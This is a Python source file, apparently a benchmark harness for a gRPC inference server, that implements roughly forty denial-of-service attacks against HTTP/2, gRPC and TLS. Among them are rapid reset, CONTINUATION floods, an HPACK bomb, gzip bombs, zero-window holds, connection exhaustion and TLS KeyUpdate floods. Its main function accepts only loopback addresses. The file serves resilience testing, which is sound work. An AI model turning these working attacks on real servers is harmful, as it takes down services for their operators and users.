"""What hostile peers do to a server, each attack a function over the connections of hostile_peer.py. hostile.py starts this as a
process of its own, one attack at a time:

    python benchmarks/attacks.py NAME ADDRESS CORE

It goes on, with new connections where it is cut off, until its stdin is closed, and prints what happened as one JSON object: how often
which word. Loopback addresses only. Never in here: whether the server did well.
"""

from __future__ import annotations

import ctypes
import gzip
import json
import os
import random
import resource
import signal
import socket
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Sequence
from functools import partial
from itertools import cycle
from pathlib import Path
from typing import Any

import workloads
from hostile_peer import (
    ACK,
    BLOCK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FIRST_WINDOW,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LARGEST_WINDOW,
    PATIENCE_S,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Peer,
    TlsPeer,
    Words,
    block,
    client_hello,
    data,
    frame,
    going,
    length,
    literal,
    numbers,
    stopped,
    u32,
)

from inferd.protocol import inference, reflection_v1

WIDTH = 16_384  # of a row of the model `wide`
ANSWER_NBYTES = 4 * WIDTH
RESET = struct.pack("ii", 1, 0)  # SO_LINGER: close() sends RST
HELD_ANSWERS = 1000
IDLE_CONNECTIONS = 10_000
NUMBERS = 1_000_000  # of a tensor whose elements stand one by one
CALLS_AT_ONCE = 32
NEW_CONNECTIONS, NEW_NBYTES = 100, 3000
BURST_CONNECTIONS, BURST_CALLS, BURST_S = 2000, 40, 0.2
COLD_CALLS = 1000
OPEN_WINDOWS = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, LARGEST_WINDOW))  # for answers, as wide as they may be
OPEN_WINDOWS += frame(WINDOW_UPDATE, 0, 0, u32(LARGEST_WINDOW - FIRST_WINDOW))
# Of each stream none, of the connection all that is wanted.
CLOSED = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)) + frame(WINDOW_UPDATE, 0, 0, u32(1 << 30))
WIDENING = 40  # connections
HAS_PRIORITY = 0x20  # a flag of HEADERS
CHECKING, CHECKS = 20, 100
OPEN_STREAMS, QUESTIONS = 32, 40  # of reflection on a connection, in both its versions; on each stream at a time
TINY_REQUESTS = 3000  # on each stream of ModelStreamInfer at a time
STANDING_S = 0.5  # of connections that wait for no answer: the server has accepted them by then
MEASURING_S = 2.5  # after an attack's beginning the client that behaves well measures
CHILD_S = 120  # a child ends then, whatever becomes of us


def message(model: str = "wide", width: int = WIDTH) -> bytes:
    """A request to that model behind gRPC's prefix: of `wide` ANSWER_NBYTES come back."""
    request = inference.ModelInferRequest(model_name=model)
    request.inputs.add(name="x", datatype="FP32", shape=(1, width))
    request.raw_input_contents.append(bytes(4 * width))
    body: bytes = request.SerializeToString()
    return struct.pack(">BI", 0, len(body)) + body


def over_and_over(attack: Callable[[Peer], object], address: str, **how: Any) -> Words:
    """The attack on one connection after the other. how: Peer's other arguments."""
    words: Words = Counter()
    going()
    while not stopped():
        peer = Peer(address, words, **how)
        attack(peer)
        peer.close()
        words["connections"] += 1
    return words


def flood(address: str, piece: bytes, opening: bytes = b"") -> Words:
    """The same bytes without end."""
    whole = piece * max(1, (4 << 20) // len(piece))

    def attack(peer: Peer) -> None:
        peer.send(opening)
        while peer.send(whole):
            peer.words["MiB"] += len(whole) >> 20

    return over_and_over(attack, address)


# ---- the attacks


def reset_streams(address: str, kind: int, payload: bytes) -> Words:
    """100,000 streams a connection, each opened and, by a frame of that kind, reset at once."""
    whole = b"".join(frame(HEADERS, END_HEADERS, n, BLOCK) + frame(kind, 0, n, payload) for n in range(1, 200_000, 2))

    def attack(peer: Peer) -> None:
        peer.send(whole)
        peer.words["streams"] += 100_000
        peer.wait(0.2)

    return over_and_over(attack, address)


def rapid_reset(address: str) -> Words:
    """The client resets them."""
    return reset_streams(address, RST_STREAM, u32(8))


def made_you_reset(address: str) -> Words:
    """The server does, since their windows are opened too far."""
    return reset_streams(address, WINDOW_UPDATE, u32(LARGEST_WINDOW))


def hostages(address: str) -> Words:
    """20 connections that declare messages of 64 MiB, send 20 of each, and stop."""
    words: Words = Counter()
    peers = [Peer(address, words) for _ in range(20)]
    piece = data(1, bytes(256 << 10), end=False) + frame(SETTINGS, 0, 0)  # their acknowledgement says that the windows are open again
    for peer in peers:
        peer.wait(0.05)
        peer.send(frame(SETTINGS, ACK, 0) + frame(HEADERS, END_HEADERS, 1, BLOCK) + data(1, struct.pack(">BI", 0, 64 << 20), end=False))
        for number in range(1, 81):
            peer.send(piece)
            while peer.acknowledged < number and not peer.cut and not stopped():
                peer.wait(0.01)
        words["MiB held"] += 20
    going()
    while not stopped():
        for peer in peers:
            peer.wait(0.01)
    for peer in peers:
        peer.close()
    return words


def continuation_flood(address: str) -> Words:
    return flood(address, frame(CONTINUATION, 0, 1, b""), frame(HEADERS, END_STREAM, 1, BLOCK[:10]))


def continuation_flood_of_headers(address: str) -> Words:
    return flood(address, frame(CONTINUATION, 0, 1, literal(b"name", bytes(16_000).replace(b"\0", b"x"))), frame(HEADERS, 0, 1, BLOCK))


def hpack_bomb(address: str) -> Words:
    """A field of 4 KB in the table once, then bytes that each stand for it: 16 KB of them are 64 MB of headers."""
    stored = b"\x40" + length(4) + b"bomb" + length(4000) + b"x" * 4000
    bomb = BLOCK + b"\xbe" * (16_000 - len(BLOCK))  # 62, the newest entry

    def attack(peer: Peer) -> None:
        streams = numbers()
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, next(streams), BLOCK + stored))
        while peer.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, next(streams), bomb) for _ in range(100))):
            peer.words["bombs"] += 100

    return over_and_over(attack, address)


def settings_flood(address: str) -> Words:
    return flood(address, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)))


def ping_flood(address: str) -> Words:
    return flood(address, frame(PING, 0, 0, bytes(8)))


def ping_flood_unread(address: str) -> Words:
    """Whose answers nobody reads."""

    def attack(peer: Peer) -> None:
        while peer.send(frame(PING, 0, 0, bytes(8)) * 100_000, patience_s=1.0):
            pass
        peer.wait(1.0)

    return over_and_over(attack, address, deaf=True)


def window_update_flood(address: str) -> Words:
    """Turns of one byte; a window that grows beyond 2 GiB is another matter, and an error."""
    return flood(address, frame(WINDOW_UPDATE, 0, 1, u32(1)), frame(HEADERS, END_HEADERS, 1, BLOCK))


def http_1_uploads(address: str) -> Words:
    """Of 4 MiB each, of clients that took the port for another. They are answered, and it is thrown away."""
    body = bytes(4 << 20)
    return over_and_over(lambda peer: peer.send(body), address, greeting=b"POST / HTTP/1.1\r\nHost: test\r\n\r\n")


def empty_data_flood(address: str) -> Words:
    return flood(address, frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, BLOCK))


def padding_flood(address: str) -> Words:
    return flood(address, frame(DATA, 0x8, 1, b"\xff" + bytes(255)), frame(HEADERS, END_HEADERS, 1, BLOCK))


def priority_flood(address: str) -> Words:
    return flood(address, b"".join(frame(PRIORITY, 0, n, u32(0) + b"\x0f") for n in range(1, 20_000, 2)))


def unknown_frame_flood(address: str) -> Words:
    return flood(address, frame(0xF0, 0, 0))


def unknown_method_flood(address: str) -> Words:
    """Refused calls, as fast as they can be asked for."""

    def attack(peer: Peer) -> None:
        streams = numbers()
        asked = block(path=b"/no.Such/Method")
        while peer.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, next(streams), asked) for _ in range(500))):
            peer.words["calls"] += 500

    return over_and_over(attack, address)


def numbers_message(count: int) -> bytes:
    """A request to the model `numbers`, whose rows may be of any length: so many ones, each with a tag of its own, as protobuf takes them,
    too, and never writes them."""
    request = inference.ModelInferRequest(model_name="numbers").SerializeToString()
    tensor = inference.ModelInferRequest.InferInputTensor(name="x", datatype="INT32", shape=(1, count)).SerializeToString()
    message: bytes = request + nested(5, tensor + nested(5, b"\x10\1" * count))
    return message


def nested(number: int, content: bytes) -> bytes:
    """A field of protobuf that has a length."""
    size, rest = b"", len(content)
    while rest >= 128:
        size, rest = size + bytes((rest % 128 | 128,)), rest // 128
    return bytes((number << 3 | 2,)) + size + bytes((rest,)) + content


def typed_contents(address: str) -> Words:
    """32 requests of a million numbers, one by one, without their last bytes; then these, all at once."""
    body = numbers_message(NUMBERS)
    return calls_at_once(address, BLOCK, struct.pack(">BI", 0, len(body)) + body)


def typed_contents_in_gzip(address: str) -> Words:
    """The same, where 2 MB are 2 KB."""
    body = gzip.compress(numbers_message(NUMBERS), 6)
    return calls_at_once(address, block((b"grpc-encoding", b"gzip")), struct.pack(">BI", 1, len(body)) + body)


def calls_at_once(address: str, headers: bytes, body: bytes) -> Words:
    """That are all whole at one moment; the next ones follow when they are answered."""

    def attack(peer: Peer) -> None:
        streams, asked = numbers(), 0
        peer.wait(0.05)  # for the server's windows
        peer.send(frame(SETTINGS, ACK, 0))
        while peer.wait_for(asked):
            begun = [next(streams) for _ in range(CALLS_AT_ONCE)]
            if not all(peer.send(frame(HEADERS, END_HEADERS, n, headers)) and peer.upload(n, body[:-1]) for n in begun):
                return
            peer.send(b"".join(data(n, body[-1:]) for n in begun if n not in peer.ended))
            peer.uploaded += CALLS_AT_ONCE  # at most
            peer.words["calls"] += CALLS_AT_ONCE
            asked += CALLS_AT_ONCE

    return over_and_over(attack, address)


def bursts(address: str) -> Words:
    """2000 connections that each ask for 40 calls of an unknown method at one moment, 5 times a second."""
    return calls_of_many(address, BURST_CALLS, BURST_S)


def calls_without_pause(address: str) -> Words:
    """2000 connections that each ask for one call of an unknown method, over and over."""
    return calls_of_many(address, 1, 0.0)


def calls_of_many(address: str, count: int, every_s: float) -> Words:
    """Of as many connections as there are descriptors for, if those are fewer."""
    words: Words = Counter()
    asked = block(path=b"/no.Such/Method")
    peers = [Peer(address, words, blind=True) for _ in range(min(BURST_CONNECTIONS, descriptors()))]
    streams = numbers()
    going()
    while not stopped():
        until = time.monotonic() + every_s
        content = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, next(streams), asked) for _ in range(count))
        for peer in peers:
            words["calls"] += count * peer.send(content)
        words["rounds"] += 1
        time.sleep(max(0.0, until - time.monotonic()))
        for peer in peers:
            peer.read()
        peers = [Peer(address, words, blind=True) if peer.cut else peer for peer in peers]
    for peer in peers:
        peer.close()
    return words


def new_connections(address: str) -> Words:
    """100 at a time, each with 3 KB of calls of an unknown method, whose headers are in HPACK's table from the second one on."""
    words: Words = Counter()
    named = ((b":method", b"POST"), (b":path", b"/a/b"), (b":authority", b"test"), (b"content-type", b"application/grpc"))
    stored = b"".join(b"\x40" + literal(*one)[1:] for one in named)
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x86" + stored)  # http, and what is in the table as 65 to 62 then
    again = b"\x86\xc1\xc0\xbf\xbe"
    count = (NEW_NBYTES - len(first)) // len(frame(HEADERS, 0, 1, again))
    content = first + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, again) for n in range(3, 3 + 2 * count, 2))
    going()
    while not stopped():
        peers = [Peer(address, words, greeting=b"", blind=True) for _ in range(NEW_CONNECTIONS)]
        for peer in peers:
            peer.send(PREFACE + frame(SETTINGS, 0, 0) + content)
        for peer in peers:
            peer.read_soon(0.1)
            peer.socket.close()
        words["connections"] += NEW_CONNECTIONS
        words["calls"] += NEW_CONNECTIONS * (count + 1)
    return words


def cold_calls() -> list[tuple[str, bytes]]:
    """Methods that the server answers by a task, and a request for each."""
    service = workloads.INFER_PATH.rpartition("/")[0]
    question = reflection_v1.ServerReflectionRequest(file_containing_symbol=service.strip("/"))
    return [
        (f"{service}/ModelStatistics", b""),
        (f"{service}/ModelMetadata", inference.ModelMetadataRequest(name="identity").SerializeToString()),
        ("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", question.SerializeToString()),
    ]


def cold_methods(address: str) -> Words:
    """1000 calls of ModelStatistics, ModelMetadata and reflection, open at once on one connection; where some end others begin."""
    asked = [(block(path=path.encode()), struct.pack(">BI", 0, len(message)) + message) for path, message in cold_calls()]

    def attack(peer: Peer) -> None:
        peer.send(OPEN_WINDOWS)
        streams, calls, begun = numbers(), cycle(asked), 0
        while peer.wait_for(begun - COLD_CALLS + 1):
            more = [(next(streams), *next(calls)) for _ in range(COLD_CALLS - (begun - len(peer.ended)))]
            peer.send(b"".join(frame(HEADERS, END_HEADERS, n, headers) + data(n, body) for n, headers, body in more))
            peer.words["calls"] += len(more)
            begun += len(more)

    return over_and_over(attack, address)


def health_checks(address: str) -> Words:
    """100 calls of the health service's Check open at once on each of 20 connections; where some end others begin."""
    words: Words = Counter()
    streams = numbers()
    asked = block(path=b"/grpc.health.v1.Health/Check")
    peers = [Peer(address, words) for _ in range(CHECKING)]
    begun: Counter[int] = Counter()
    for peer in peers:
        peer.send(OPEN_WINDOWS)
    going()
    while not stopped():
        for at, peer in enumerate(peers):
            peer.read_soon(0.0)
            if more := CHECKS - (begun[at] - len(peer.ended)):
                numbered = [next(streams) for _ in range(more)]
                peer.send(b"".join(frame(HEADERS, END_HEADERS, n, asked) + data(n, bytes(5)) for n in numbered))
                begun[at] += more
                words["calls"] += more
    for peer in peers:
        peer.close()
    return words


def questions_on_open_streams(address: str, connections: int) -> Words:
    """Each connection has as many streams of reflection open as it may, and sends 40 questions on each whenever windows allow."""
    path, question = cold_calls()[-1]
    message = struct.pack(">BI", 0, len(question)) + question
    return on_open_streams(address, connections, (path, path.replace("v1", "v1alpha")), message, QUESTIONS, "questions")


def tiny_requests_of_streams(address: str, connections: int) -> Words:
    """Each connection has 32 streams of ModelStreamInfer open, and sends 3000 empty requests on each whenever windows allow."""
    return on_open_streams(address, connections, (workloads.STREAM_PATH,), bytes(5), TINY_REQUESTS, "requests")


def on_open_streams(address: str, connections: int, paths: Sequence[str], message: bytes, at_a_time: int, word: str) -> Words:
    words: Words = Counter()
    messages = at_a_time * message
    opening = b"".join(
        frame(HEADERS, END_HEADERS, n, block(path=paths[n // 2 % len(paths)].encode())) for n in range(1, 2 * OPEN_STREAMS, 2)
    )

    def connected() -> tuple[Peer, Counter[int]]:
        peer = Peer(address, words)
        peer.wait(0.05)
        peer.send(frame(SETTINGS, ACK, 0) + OPEN_WINDOWS + opening)
        return peer, Counter()

    peers = [connected() for _ in range(connections)]
    going()
    while not stopped():
        for at, (peer, sent) in enumerate(peers):
            peer.read_soon(0.0)
            for n in range(1, 2 * OPEN_STREAMS, 2):
                if n not in peer.ended and peer.room(n, sent[n]) >= len(messages):
                    peer.send(data(n, messages, end=False))
                    sent[n] += len(messages)
                    peer.uploaded += len(messages)
                    words[word] += at_a_time
            if peer.cut:
                peers[at] = connected()
    for peer, _ in peers:
        peer.close()
    return words


def zero_windows(address: str) -> Words:
    """1000 answers of 64 KiB that wait for windows that are never opened."""
    body = message()
    words: Words = Counter()
    peer = Peer(address, words, greeting=CLOSED)
    for number in range(1, 2 * HELD_ANSWERS, 2):
        peer.send(frame(HEADERS, END_HEADERS, number, BLOCK) + data(number, body))
        peer.wait(0.002)  # the connection's window opens as the server reads
    going()
    while not stopped():
        peer.wait(0.1)
    words["asked"] = HELD_ANSWERS
    peer.close()
    return words


def windows_a_byte_wider(address: str, flags: int = 0) -> Words:
    """1000 small answers on each of 40 connections, whose windows are opened by a byte, all at once by 15 bytes, 5 times a second. With
    flags of HEADERS' priority each stream depends on the one before, and on nothing else."""
    body = message("identity", 16)
    words: Words = Counter()
    peers = []
    for _ in range(WIDENING):
        peer = Peer(address, words, greeting=CLOSED)
        for number in range(1, 2 * HELD_ANSWERS, 2):
            priority = u32(1 << 31 | max(number - 2, 0)) + b"\xff" if flags else b""
            peer.send(frame(HEADERS, END_HEADERS | flags, number, priority + BLOCK) + data(number, body))
        peers.append(peer)
    going()
    width = 0
    while not stopped():
        width += 1
        for peer in peers:
            peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, width)))
            peer.read_soon(0.0)
        words["times"] += 1
        peers[width % WIDENING].wait(BURST_S)
    for peer in peers:
        peer.close()
    return words


def bytewise_writers(address: str) -> Words:
    """200 connections, each with a request that comes a byte at a time."""
    words: Words = Counter()
    peers = [Peer(address, words) for _ in range(200)]
    content = frame(HEADERS, END_HEADERS, 1, BLOCK) + data(1, message())
    for peer in peers:
        peer.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    going()
    at = 0
    while not stopped() and at < len(content):
        for peer in peers:
            peer.send(content[at : at + 1])
            words["bytes"] += 1
        at += 1
    for peer in peers:
        peer.close()
    return words


def descriptors() -> int:
    """How many more sockets this process may open: the hard limit, which it takes."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard - 50


def idle_connections(address: str) -> Words:
    """10,000 that have greeted and say nothing more; fewer where the limit on open files is lower."""
    words: Words = Counter()
    wanted = min(IDLE_CONNECTIONS, descriptors())
    peers = []
    for _ in range(wanted):
        try:
            peers.append(Peer(address, words))
        except OSError:
            words["not accepted"] += 1
    words["connections"] = len(peers)
    going()
    while not stopped():
        time.sleep(0.05)
    for peer in peers:
        peer.read()  # nothing, the server's settings, or the end
        peer.close()
    return words


def half_open_sockets(address: str) -> Words:
    """2000 that never say what they speak, and others that come and vanish within their first bytes."""
    words: Words = Counter()
    silent = [Peer(address, words, greeting=PREFACE[: number % len(PREFACE)]) for number in range(2000)]
    going()
    while not stopped():
        peer = Peer(address, words, greeting=PREFACE[:10])
        peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        peer.socket.close()
        words["vanished"] += 1
    for peer in silent:
        peer.close()
    return words


def oversize_headers(address: str) -> Words:
    """A block of 1 MiB in one frame, and metadata of 1000 entries, in turn."""
    acknowledged = frame(SETTINGS, ACK, 0)
    large = b"".join(literal(b"name", b"x" * 10_000) for _ in range(100))
    many = b"".join(literal(b"n%d" % number, b"") for number in range(1000))

    def attack(peer: Peer) -> None:
        streams = numbers()
        peer.wait(0.05)
        peer.send(acknowledged)
        for _ in range(20):
            for extra in (large, many):
                peer.send(frame(HEADERS, END_HEADERS | END_STREAM, next(streams), BLOCK + extra))
        peer.wait(0.1)

    return over_and_over(attack, address)


def bad_frames(address: str) -> Words:
    """Frames of every kind with any flags, streams and contents, in any state; a connection each until it is cut off."""
    lots = random.Random(0)

    def attack(peer: Peer) -> None:
        streams = numbers()
        for _ in range(50):
            number = next(streams)
            peer.send(frame(HEADERS, lots.choice((0, END_STREAM, END_HEADERS, END_HEADERS | END_STREAM)), number, BLOCK))
            kind, flags = lots.choice((*range(10), 10, 0xF0)), lots.randrange(256)
            stream = lots.choice((0, number, number + 2, 2 * lots.randrange(8), lots.randrange(2**31)))
            peer.send(frame(kind, flags, stream, lots.randbytes(lots.choice((0, 3, 4, 5, 6, 8, 9, 100)))))
        peer.wait(0.05)

    return over_and_over(attack, address)


def gzip_bombs(address: str) -> Words:
    """256 MiB of zeros in 1 MB; and one that is as large as it may be, 64 MiB."""
    bodies = [gzip.compress(bytes(nbytes), 1) for nbytes in (256 << 20, (64 << 20) - 1000)]
    asked = block((b"grpc-encoding", b"gzip"))

    def attack(peer: Peer) -> None:
        peer.wait(0.05)
        peer.send(frame(SETTINGS, ACK, 0))
        for number, body in zip(numbers(), bodies * 2, strict=False):
            peer.send(frame(HEADERS, END_HEADERS, number, asked) + data(number, struct.pack(">BI", 1, len(body)) + body))
        peer.wait(1.0)

    return over_and_over(attack, address)


def handshakes_never_made(address: str) -> Words:
    """1000 connections to the TLS port: silent, within a ClientHello, behind it; and more of the last kind, as fast as they go."""
    words: Words = Counter()
    hello = client_hello()
    waiting = [Peer(address, words, greeting=hello[:cut]) for _ in range(333) for cut in (0, 50, len(hello))]
    going()
    while not stopped():
        peer = Peer(address, words, greeting=hello)
        peer.socket.close()
        words["hellos"] += 1
    for peer in waiting:
        peer.close()
    return words


def tls_flood(address: str, records: Callable[[TlsPeer], None]) -> Words:
    """12 connections at a time send records without end; a new one follows where one was closed."""
    words: Words = Counter()
    peers: list[TlsPeer] = []
    going()
    while not stopped():
        while len(peers) < 12:
            peers.append(TlsPeer(address))
            words["connections"] += 1
        for peer in list(peers):
            try:
                records(peer)
                words["KiB"] += peer.flush() >> 10
            except OSError:
                peers.remove(peer)
                peer.socket.close()
                words["closed by the server"] += 1
    for peer in peers:
        peer.socket.close()
    return words


def records_of_a_byte(address: str) -> Words:
    """A large message, a byte in each record."""
    content = frame(HEADERS, END_HEADERS, 1, BLOCK) + data(1, struct.pack(">BI", 0, 1 << 20) + bytes(900_000), end=False)

    def records(peer: TlsPeer) -> None:
        for byte in content[peer.sent : peer.sent + 2000]:
            peer.session.write(bytes((byte,)))
        peer.sent += 2000

    return tls_flood(address, records)


def key_updates(address: str) -> Words:
    """New keys, which each side of TLS 1.3 may ask for: Python has no word for it, OpenSSL has."""
    maps = Path("/proc/self/maps").read_text().splitlines()
    library = ctypes.CDLL(next((line.split()[-1] for line in maps if "libssl" in line), None))
    library.SSL_key_update.argtypes = [ctypes.c_void_p, ctypes.c_int]
    library.SSL_do_handshake.argtypes = library.SSL_version.argtypes = [ctypes.c_void_p]

    def records(peer: TlsPeer) -> None:
        held = id(peer.session._sslobj) + 3 * struct.calcsize("P")  # type: ignore[attr-defined]  # behind two words of Python's and the socket
        found = ctypes.cast(held, ctypes.POINTER(ctypes.c_void_p))[0]
        if library.SSL_version(found) != ssl.TLSVersion.TLSv1_3:
            raise RuntimeError("no TLS 1.3, or this Python keeps its SSL elsewhere")
        for _ in range(2000):
            library.SSL_key_update(found, 0)
            library.SSL_do_handshake(found)

    return tls_flood(address, records)


def greeted_tls(address: str) -> socket.socket:
    return TlsPeer(address).socket


def greeted(address: str) -> socket.socket:
    made = silent(address)
    made.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return made


def silent(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), PATIENCE_S)


def closing_together(address: str, connect: Callable[[str], socket.socket], most: int, stand_s: float = 0.0) -> Words:
    """So many connections, or as many as there are descriptors for, that all end at one moment, when they have stood for so long; then
    others come."""
    words: Words = Counter()
    wanted = min(most, descriptors())
    made = [connect(address) for _ in range(wanted)]
    going()
    ending = time.monotonic() + max(MEASURING_S, stand_s)
    while not stopped():
        if len(made) < wanted:
            made.append(connect(address))
            ending = max(ending, time.monotonic() + stand_s)
        elif time.monotonic() < ending:
            time.sleep(0.01)
        else:
            for connection in made:
                connection.close()
            words["closed"] += len(made)
            made = []
    for connection in made:
        connection.close()
    return words


def killed_clients(address: str) -> Words:
    """1000 processes, each killed with SIGKILL in mid-message, at another byte each time."""
    words: Words = Counter()
    content = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, BLOCK) + data(1, message())
    going()
    while words["killed"] < 1000 or not stopped():
        told, tell = os.pipe()
        child = os.fork()
        if child == 0:
            signal.alarm(CHILD_S)
            peer = Peer(address, Counter(), greeting=b"")
            peer.socket.setblocking(True)
            peer.socket.sendall(content[: words["killed"] * 104729 % len(content)])
            os.write(tell, b".")
            signal.pause()
        os.close(tell)
        os.read(told, 1)  # it has sent all that it will
        os.close(told)
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
        words["killed"] += 1
    return words


def stopped_clients(address: str) -> Words:
    """A client with windows of 2 GiB, stopped by SIGSTOP for 10 s while 1000 answers of 64 KiB pile up; then killed."""
    words: Words = Counter()
    opening = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, LARGEST_WINDOW))
    opening += frame(WINDOW_UPDATE, 0, 0, u32(LARGEST_WINDOW - 65_535))
    body = message()
    told, tell = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(CHILD_S)
        peer = Peer(address, Counter(), greeting=opening, deaf=True)
        for number in range(1, 2 * HELD_ANSWERS, 2):
            peer.send(frame(HEADERS, END_HEADERS, number, BLOCK) + data(number, body))
        os.write(tell, b".")
        signal.pause()
    os.read(told, 1)
    os.kill(child, signal.SIGSTOP)
    going()
    until = time.monotonic() + 10
    while time.monotonic() < until or not stopped():
        time.sleep(0.05)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    words["stopped"] = 1
    return words


ATTACKS: dict[str, Callable[[str], Words]] = {
    "rapid reset": rapid_reset,
    "resets that the server is made to send": made_you_reset,
    "large messages declared and not sent": hostages,
    "CONTINUATION flood": continuation_flood,
    "CONTINUATION flood of headers": continuation_flood_of_headers,
    "HPACK bomb": hpack_bomb,
    "SETTINGS flood": settings_flood,
    "PING flood": ping_flood,
    "PING flood, unread": ping_flood_unread,
    "WINDOW_UPDATE flood": window_update_flood,
    "uploads by HTTP/1.1": http_1_uploads,
    "empty DATA flood": empty_data_flood,
    "padding flood": padding_flood,
    "PRIORITY flood": priority_flood,
    "flood of unknown frames": unknown_frame_flood,
    "flood of unknown methods": unknown_method_flood,
    "bursts from 2000 connections": bursts,
    "a call from each of 2000 connections, over and over": calls_without_pause,
    "new connections, 3 KB of calls each": new_connections,
    "cold methods, 1000 calls": cold_methods,
    "health checks, 2000 calls": health_checks,
    "questions on open streams, 1 connection": partial(questions_on_open_streams, connections=1),
    "questions on open streams, 30 connections": partial(questions_on_open_streams, connections=30),
    "tiny requests of streams, 1 connection": partial(tiny_requests_of_streams, connections=1),
    "tiny requests of streams, 30 connections": partial(tiny_requests_of_streams, connections=30),
    "typed contents, whole at once": typed_contents,
    "typed contents in gzip": typed_contents_in_gzip,
    "zero windows, 1000 answers": zero_windows,
    "windows a byte wider, 40,000 answers": windows_a_byte_wider,
    "windows a byte wider, in chains of priorities": partial(windows_a_byte_wider, flags=HAS_PRIORITY),
    "a byte at a time, 200 writers": bytewise_writers,
    "10,000 idle connections": idle_connections,
    "half-open sockets": half_open_sockets,
    "oversize headers": oversize_headers,
    "bad frames in any state": bad_frames,
    "gzip bombs": gzip_bombs,
    "TLS handshakes never made": handshakes_never_made,
    "TLS records of a byte": records_of_a_byte,
    "TLS KeyUpdates": key_updates,
    "9000 connections that end at once": partial(closing_together, connect=greeted, most=9000, stand_s=STANDING_S),
    "3000 TLS connections that end at once": partial(closing_together, connect=greeted_tls, most=3000),
    "5000 silent connections to the TLS port that end at once": partial(closing_together, connect=silent, most=5000, stand_s=STANDING_S),
    "kill -9 in mid-message, 1000 times": killed_clients,
    "SIGSTOP for 10 s": stopped_clients,
}
OF_TLS = {
    "TLS handshakes never made",
    "TLS records of a byte",
    "TLS KeyUpdates",
    "3000 TLS connections that end at once",
    "5000 silent connections to the TLS port that end at once",
}  # those of the TLS port


def main() -> int:
    name, address, core = sys.argv[1:]
    if not address.startswith("127."):
        raise SystemExit("loopback addresses only")
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))  # an attacker has a machine of its own: here it gives way to the client
    os.sched_setaffinity(0, {int(core)})
    print(json.dumps(ATTACKS[name](address)), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
